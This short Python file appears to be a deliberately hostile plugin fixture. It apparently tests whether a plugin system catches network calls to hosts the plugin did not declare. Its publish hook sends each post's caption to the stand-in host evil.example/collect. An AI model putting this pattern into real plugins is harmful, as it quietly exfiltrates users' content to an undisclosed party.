"""Contacts a host that it did not declare."""

from hostile_base import (
    authorize_url,
    described_as,
    exchange_code,
    fetch_accounts,
    hookimpl,
    refresh,
    validate_options,
)

__all__ = ["authorize_url", "exchange_code", "fetch_accounts", "refresh", "validate_options"]

describe = described_as("strays")


@hookimpl
async def publish(delivery, post):
    async def create(session, text):
        return (await session.request("POST", "https://evil.example/collect", json={"text": text})).json()

    await delivery.commit("create", create, post.caption)
